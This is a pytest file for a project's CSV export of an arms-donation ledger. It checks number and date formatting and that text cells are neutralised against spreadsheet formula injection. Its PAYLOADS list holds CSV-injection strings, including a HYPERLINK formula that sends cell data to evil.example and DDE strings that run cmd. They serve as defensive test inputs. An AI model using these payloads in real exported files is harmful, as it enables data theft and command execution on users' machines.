"""The ledger as CSV: numbers without exponents, days as ISO, and no text cell that a
spreadsheet would run as a formula (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from presswatch.analysis.ledger import (
    CSV_COLUMNS,
    FORMULA_STARTS,
    LedgerRow,
    csv_day,
    csv_number,
    csv_row,
    csv_text,
    plain_date,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_text_neutralises_formulas(payload: str) -> None:
    assert csv_text(payload) == "'" + payload


def test_csv_text_leaves_plain_text_alone() -> None:
    assert csv_text("Germany") == "Germany"
    assert csv_text("a=b") == "a=b"  # only the first character counts
    assert csv_text(" =1") == " =1"
    assert csv_text("") == ""
    assert csv_text(None) == ""
    assert csv_text("'quoted") == "'quoted"
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_csv_number_and_day() -> None:
    assert csv_number(None) == ""
    assert csv_number(1e9) == "1000000000"
    assert csv_number(-5.0) == "-5"  # a number stays a number, sign and all
    assert csv_number(0.125) == "0.125"
    assert plain_date("2022-04-26T10:00:00") == "2022-04-26"
    assert plain_date("2022-04") == "2022-04"
    assert plain_date(None) == ""


def _row(**fields: object) -> LedgerRow:
    base: dict[str, object] = {
        "donor": "Germany",
        "recipient": "Ukraine",
        "item": "Gepard",
        "item_class": "air defence",
        "quantity": 50.0,
        "value_usd": 525_000_000.0,
        "amount": 500_000_000.0,
        "currency": "EUR",
        "status": "announced",
        "date": "2022-04-26",
        "sources": [
            {"doc_id": "ab" * 32, "published": "2022-04-27", "start": 0, "end": 5, "text": "x"}
        ],
    }
    base.update(fields)
    return LedgerRow(**base)  # type: ignore[arg-type]


def test_csv_row_neutralises_every_text_cell_and_no_number_or_date() -> None:
    row = _row(
        donor="=cmd|' /C calc'!A0",
        recipient="+Ukraine",
        item="@SUM(A1:A9)",
        item_class="-1+1",
        currency="=EUR",
        status="\tannounced",
        quantity=-3.0,
        value_usd=-1_000.5,
        amount=-2.0,
    )
    cells = csv_row(row)
    assert cells["donor"] == "'=cmd|' /C calc'!A0"
    assert cells["recipient"] == "'+Ukraine"
    assert cells["item"] == "'@SUM(A1:A9)"
    assert cells["item_class"] == "'-1+1"
    assert cells["currency"] == "'=EUR"
    assert cells["status"] == "'\tannounced"
    # numbers and ISO dates are not text: untouched
    assert (cells["quantity"], cells["value_usd"], cells["amount"]) == ("-3", "-1000.5", "-2")
    assert cells["date"] == "2022-04-26" and cells["published"] == "2022-04-27"
    assert set(cells) == set(CSV_COLUMNS)


def test_no_text_cell_of_the_written_csv_starts_a_formula() -> None:
    rows = [_row(donor=p, recipient=p, item=p) for p in PAYLOADS]
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=CSV_COLUMNS)
    writer.writeheader()
    writer.writerows(csv_row(r) for r in rows)
    read = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert len(read) == len(PAYLOADS)
    for cells in read:
        for column in ("donor", "recipient", "item"):
            assert not cells[column].startswith(FORMULA_STARTS), cells[column]
            assert cells[column].startswith("'")


def test_a_plain_row_is_unchanged() -> None:
    cells = csv_row(_row())
    assert cells["donor"] == "Germany" and cells["item"] == "Gepard"
    assert cells["value_usd"] == "525000000" and cells["documents"].startswith("2022-04-27 ")


@pytest.mark.parametrize(
    ("date", "start", "end", "day", "precision"),
    [
        ("2022-04-26", "2022-04-26", "2022-04-26", "2022-04-26", "day"),
        ("2022-04-26T10:00", "2022-04-26", "2022-04-26", "2022-04-26", "time"),
        # "just last week", said on 18 June 2021: the week's middle day
        ("2021-W23", "2021-06-07", "2021-06-13", "2021-06-10", "week"),
        # "late last month" (April 2024): the middle of its last third
        ("2024-04", "2024-04-21", "2024-04-30", "2024-04-25", "month"),
        ("2024-04", "2024-04-01", "2024-04-30", "2024-04-15", "month"),
        # a quarter or a year is too wide for one day to stand for it
        ("2022-Q2", "2022-04-01", "2022-06-30", "2022-Q2", "quarter"),
        ("2021", "2021-01-01", "2021-12-31", "2021", "year"),
        (None, None, None, "", ""),
    ],
)
def test_the_date_column_is_a_day_where_a_period_is_a_month_or_less(
    date: str | None, start: str | None, end: str | None, day: str, precision: str
) -> None:
    row = _row(date=date, date_start=start, date_end=end)
    cells = csv_row(row)
    assert csv_day(row) == cells["date"] == day
    assert cells["date_precision"] == precision
    assert cells["date_period"] == (f"{start}/{end}" if start else "")
    # the JSON keeps the date as extracted, with the day beside it
    as_json = row.to_dict()
    assert as_json["date"] == date and as_json["date_precision"] == (precision or None)
    assert as_json["day"] == (day if day[:4].isdigit() and len(day) == 10 else None)
